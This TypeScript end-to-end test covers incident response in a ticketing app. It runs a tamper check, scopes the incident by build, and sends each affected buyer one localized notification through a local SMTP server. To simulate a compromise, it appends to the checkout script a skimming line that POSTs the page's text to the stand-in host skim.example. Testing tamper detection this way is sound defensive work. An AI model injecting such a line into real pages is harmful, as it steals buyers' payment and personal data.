/**
 * Incident response end to end, through a real SMTP server: the tamper check finds a changed
 * payment script and opens an alerted incident; the operator scopes the incident by that build;
 * the notify step and the outbox send each affected buyer one email in their language, and nobody
 * else gets any.
 */
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { simpleParser } from 'mailparser';
import { SMTPServer } from 'smtp-server';
import type { App } from '../src/app.js';
import { createMailer } from '../src/notifications/mailer.js';
import { deliverOutbox } from '../src/notifications/outbox.service.js';
import { registerBuild } from '../src/security/builds.repository.js';
import { renderIncidentNotice } from '../src/security/incident-notice.js';
import { startTamperCheckJob } from '../src/security/tamper-check.job.js';
import { admin, testApp, testPayments, type TestApp } from './helpers/app.js';
import { databaseAvailable, skipReason } from './helpers/database.js';
import { createShow, hold, holdAuth } from './helpers/fixtures.js';
import { freePort } from './helpers/net.js';

const dist = join(process.cwd(), 'web', 'dist');
const skip = !databaseAvailable
  ? skipReason
  : readFileSafe(join(dist, 'build-manifest.json'))
    ? undefined
    : 'the front end is not a sealed build: run `npm run build:web`';
function readFileSafe(path: string): string | undefined {
  try {
    return readFileSync(path, 'utf8');
  } catch {
    return undefined;
  }
}

const LOCALES = ['es', 'en', 'fr', 'nl', 'nb'] as const;
const ALERTS_TO = 'security@example.com';
const json = { ...admin, 'content-type': 'application/json' };

interface Received {
  to: string;
  subject: string;
  text: string;
}

describe('incident response end to end', { skip }, () => {
  let t: TestApp;
  let payments: App;
  let smtp: SMTPServer;
  const received: Received[] = [];
  let copy: string;

  before(async () => {
    copy = join(mkdtempSync(join(tmpdir(), 'taquilla-e2e-dist-')), 'dist');
    cpSync(dist, copy, { recursive: true });
    const [port, paymentPort, smtpPort] = [await freePort(), await freePort(), await freePort()];
    // A real SMTP server: what arrives here is what the people would get.
    smtp = new SMTPServer({
      authOptional: true,
      disabledCommands: ['STARTTLS'],
      logger: false,
      onData(stream, session, callback) {
        simpleParser(stream).then(
          (mail) => {
            for (const rcpt of session.envelope.rcptTo) received.push({ to: rcpt.address.toLowerCase(), subject: mail.subject ?? '', text: mail.text ?? '' });
            callback();
          },
          (error: Error) => callback(error),
        );
      },
    });
    await new Promise<void>((resolve) => smtp.listen(smtpPort, '127.0.0.1', resolve));
    t = await testApp(
      {
        PORT: String(port),
        PAYMENT_PORT: String(paymentPort),
        BASE_URL: `http://127.0.0.1:${port}`,
        PAYMENT_ORIGIN: `http://127.0.0.1:${paymentPort}`,
        ALERT_EMAILS: ALERTS_TO,
        SMTP_URL: `smtp://127.0.0.1:${smtpPort}`,
      },
      20,
      { webDistDir: copy },
    );
    await registerBuild(t.ctx.db, t.ctx.buildManifest!);
    payments = await testPayments(t.ctx);
    await t.app.listen({ port, host: '127.0.0.1' });
    await payments.listen({ port: paymentPort, host: '127.0.0.1' });
  });
  after(async () => {
    await payments?.close();
    await t?.close();
    await new Promise<void>((resolve) => (smtp ? smtp.close(() => resolve()) : resolve()));
    if (copy) rmSync(dirname(copy), { recursive: true, force: true });
  });

  /** An order by `email` in `locale` from a checkout page that ran the build being served. */
  async function buy(performanceId: string, gaAreaId: string, email: string, locale: string): Promise<string> {
    const held = (await hold(t.app, performanceId, { gaAreaId, quantity: 1 })).json();
    const res = await t.app.inject({
      method: 'POST',
      url: `/api/holds/${held.holdId}/order`,
      headers: { 'idempotency-key': `e2e-${email}-${held.holdId}`, 'x-taquilla-build': t.ctx.buildId, 'x-taquilla-page-class': 'payment', ...holdAuth(held) },
      payload: { buyer: { name: `Buyer ${email.split('@')[0]}`, email, locale } },
    });
    assert.equal(res.statusCode, 201, res.body);
    return res.json().orderId;
  }

  test('incident: tamper check flags the payment script, the scope is that build, each affected buyer gets one email in their language', {
    timeout: 120_000,
  }, async () => {
    const show = await createShow(t.app, { rows: 1, perRow: 2, gaCapacity: 200 });
    // Ten buyers on the build being served (two per language), one of them twice.
    const affected = LOCALES.flatMap((locale) => [1, 2].map((n) => ({ email: `${locale}${n}@fans.example`, locale })));
    for (const b of affected) await buy(show.performanceId, show.gaAreaId, b.email, b.locale);
    await buy(show.performanceId, show.gaAreaId, affected[0]!.email, affected[0]!.locale);
    // Five who bought the day before, through the previous build: outside the scope.
    const earlier = LOCALES.map((locale) => ({ email: `earlier-${locale}@fans.example`, locale }));
    const earlierOrders = [];
    for (const b of earlier) earlierOrders.push(await buy(show.performanceId, show.gaAreaId, b.email, b.locale));
    await t.ctx.db
      .updateTable('checkout_records')
      .set({ build_id: '0123456789abcdef', client_build_id: '0123456789abcdef', created_at: new Date(Date.now() - 86_400_000) } as never)
      .where('order_id', 'in', earlierOrders)
      .execute();

    // An intruder changes the checkout script on disk; one cycle of the tamper check finds it.
    const target = t.ctx.buildManifest!.pages['index.html']!.scripts.find((s) => s.chunk === 'src/buyer/pages/checkout.tsx')!;
    const file = join(copy, target.path);
    const altered = `${readFileSync(file, 'utf8')}\n;fetch('https://skim.example/c',{method:'POST',body:document.body.innerText});`;
    writeFileSync(file, altered);
    writeFileSync(`${file}.br`, brotliCompressSync(altered));
    writeFileSync(`${file}.gz`, gzipSync(altered));
    const quiet = { info: () => {}, warn: () => {}, error: () => {} };
    const job = startTamperCheckJob(t.ctx, quiet, { firstRunMs: 10 });
    let incidentId: string | null = null;
    try {
      for (let i = 0; i < 100 && !incidentId; i++) {
        const run = await t.ctx.db.selectFrom('tamper_checks').select('incident_id').orderBy('finished_at', 'desc').executeTakeFirst();
        incidentId = run?.incident_id ?? null;
        if (!incidentId) await new Promise((r) => setTimeout(r, 100));
      }
    } finally {
      await job.stop();
    }
    assert.ok(incidentId, 'the tamper check opened an incident');
    const id: string = incidentId;
    const incident = (await t.app.inject({ url: `/api/admin/incidents/${id}`, headers: admin })).json().incident;
    assert.equal(incident.category, 'script_compromise');

    // Scope by that build: exactly the ten.
    const scope = await t.app.inject({ method: 'POST', url: `/api/admin/incidents/${id}/scopes`, headers: json, payload: { buildIds: [t.ctx.buildId] } });
    assert.equal(scope.statusCode, 201, scope.body);
    assert.equal(scope.json().people, affected.length);
    assert.equal(scope.json().checkoutAttempts, affected.length + 1);

    // Dry run, then the real notification, twice: the second sends nothing.
    const dry = await t.app.inject({
      method: 'POST',
      url: `/api/admin/incidents/${id}/steps`,
      headers: json,
      payload: { step: 'notify', scopeId: scope.json().id, dryRun: true },
    });
    assert.equal(dry.statusCode, 200, dry.body);
    assert.equal(dry.json().count, affected.length);
    for (let round = 0; round < 2; round++) {
      const started = await t.app.inject({
        method: 'POST',
        url: `/api/admin/incidents/${id}/steps`,
        headers: json,
        payload: { step: 'notify', scopeId: scope.json().id },
      });
      assert.equal(started.statusCode, 202, started.body);
      for (let i = 0; i < 100; i++) {
        const runs = (await t.app.inject({ url: `/api/admin/incidents/${id}/steps`, headers: admin })).json().runs as { status: string }[];
        if (runs.every((r) => r.status !== 'running')) break;
        await new Promise((r) => setTimeout(r, 100));
      }
    }

    // The outbox sends through the SMTP server until nothing is left.
    const mailer = createMailer(t.ctx.config)!;
    try {
      for (let i = 0; i < 20; i++) {
        const result = await deliverOutbox(t.ctx.db, mailer, { batch: 50 });
        if (result.claimed === 0) break;
      }
    } finally {
      mailer.close();
    }

    const subjectFor = (locale: string) =>
      renderIncidentNotice({
        name: 'x',
        locale,
        category: 'script_compromise',
        firstAt: new Date(),
        lastAt: new Date(),
        timeline: [],
        hasAccount: false,
        contact: ALERTS_TO,
      }).subject;
    for (const b of affected) {
      const mails = received.filter((m) => m.to === b.email);
      assert.equal(mails.length, 1, `${b.email} gets exactly one email`);
      assert.equal(mails[0]!.subject, subjectFor(b.locale), `${b.email} is written to in ${b.locale}`);
      assert.doesNotMatch(mails[0]!.text, /4242|skim\.example/, 'nothing beyond what the person needs');
    }
    for (const b of earlier)
      assert.deepEqual(
        received.filter((m) => m.to === b.email),
        [],
        `${b.email} gets nothing`,
      );
    assert.equal(new Set(LOCALES.map(subjectFor)).size, 5, 'five languages, five subjects');
    // The alert went to the people on call, by the same SMTP server.
    assert.ok(
      received.some((m) => m.to === ALERTS_TO && /script compromise/i.test(m.subject)),
      'the alert was emailed',
    );
    const everyoneElse = received.filter((m) => m.to !== ALERTS_TO && !affected.some((b) => b.email === m.to));
    assert.deepEqual(everyoneElse, [], 'nobody else got any email');

    const timeline = (await t.app.inject({ url: `/api/admin/incidents/${id}`, headers: admin })).json().incident.timeline.map((e: { what: string }) => e.what);
    for (const what of ['tamper_check', 'scope_defined', 'notifications_sent']) assert.ok(timeline.includes(what), `${what} on the timeline: ${timeline}`);
  });
});
